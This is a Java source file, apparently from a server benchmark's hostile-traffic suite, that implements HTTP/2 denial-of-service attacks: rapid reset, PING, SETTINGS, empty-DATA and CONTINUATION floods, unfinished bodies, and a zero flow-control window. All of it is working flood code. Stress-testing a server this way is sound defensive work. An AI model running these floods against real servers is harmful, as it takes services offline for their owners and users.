package dev.restauth.bench.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Attacks with HTTP/2. */
final class Http2Attacks {
  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int CONTINUATION = 9;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;
  private static final int FRAME = 16_384;
  private static final int FRAMES = 7;
  private static final int STREAMS = 20;
  private static final long UNREAD_MILLIS = 15_000;
  private static final byte[] NO_WINDOW = {0, 4, 0, 0, 0, 0};
  private static final byte[] CANCEL = {0, 0, 0, 8};

  private Http2Attacks() {}

  /** A source of the next frames of a flood. */
  private interface Next {
    byte[] frames(int stream);
  }

  static List<Attack> all() {
    return List.of(
        new Attack("HTTP/2: bodies without their end", 11, 4, 100, Http2Attacks::unfinishedBodies),
        new Attack("HTTP/2: large answers, window 0", 12, 4, 100, Http2Attacks::shutWindow),
        flood("rapid reset", 13, Http2Attacks::reset),
        flood("PING", 14, _ -> frame(PING, 0, 0, new byte[8])),
        flood("SETTINGS", 15, _ -> frame(SETTINGS, 0, 0, new byte[0])),
        flood("empty DATA", 16, Http2Attacks::emptyData),
        flood("CONTINUATION", 17, Http2Attacks::continuation));
  }

  private static Attack flood(String of, int block, Next next) {
    return new Attack("HTTP/2: " + of, block, 1, 4, (target, from) -> flood(target, from, next));
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .putShort((short) (payload.length >> 8))
        .put((byte) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  /** Returns the HEADERS frame of a request. Its fields are literals that are in no table. */
  private static byte[] head(int stream, int flags, String method, String path) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    for (String text :
        List.of(":method", method, ":scheme", "http", ":path", path, ":authority", "x")) {
      if (text.startsWith(":")) {
        block.write(0);
      }
      block.write(text.length());
      block.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
    }
    return frame(HEADERS, flags, stream, block.toByteArray());
  }

  private static Socket connect(Target target, String from, byte[] settings) throws IOException {
    Socket socket = target.connect(from, 0, true);
    OutputStream out = socket.getOutputStream();
    out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
    out.write(frame(SETTINGS, 0, 0, settings));
    return socket;
  }

  /** Sends incomplete bodies that fill the connection's window. */
  private static void unfinishedBodies(Target target, String from) throws IOException {
    try (Socket socket = connect(target, from, new byte[0])) {
      for (int i = 0; i < FRAMES; i++) {
        int stream = 1 + 2 * (i / 3);
        if (i % 3 == 0) {
          socket.getOutputStream().write(head(stream, END_HEADERS, "POST", "/api/users"));
        }
        socket.getOutputStream().write(frame(DATA, 0, stream, new byte[FRAME]));
      }
      Attack.hold(socket);
    }
  }

  private static void shutWindow(Target target, String from)
      throws IOException, InterruptedException {
    try (Socket socket = connect(target, from, NO_WINDOW)) {
      for (int i = 0; i < STREAMS; i++) {
        socket
            .getOutputStream()
            .write(head(1 + 2 * i, END_STREAM | END_HEADERS, "GET", "/openapi.json"));
      }
      Thread.sleep(UNREAD_MILLIS);
    }
  }

  private static void flood(Target target, String from, Next next) throws IOException {
    try (Socket socket = connect(target, from, new byte[0])) {
      for (int stream = 1; ; stream += 2) { // until the server closes the connection
        socket.getOutputStream().write(next.frames(stream));
      }
    }
  }

  private static byte[] both(byte[] one, byte[] other) {
    return ByteBuffer.allocate(one.length + other.length).put(one).put(other).array();
  }

  private static byte[] reset(int stream) {
    return both(
        head(stream, END_STREAM | END_HEADERS, "GET", "/api/resource"),
        frame(RST_STREAM, 0, stream, CANCEL));
  }

  private static byte[] emptyData(int stream) {
    byte[] data = frame(DATA, 0, 1, new byte[0]);
    return stream == 1 ? both(head(1, END_HEADERS, "POST", "/api/users"), data) : data;
  }

  private static byte[] continuation(int stream) {
    byte[] more = frame(CONTINUATION, 0, 1, new byte[0]);
    return stream == 1 ? both(head(1, 0, "GET", "/health"), more) : more;
  }
}
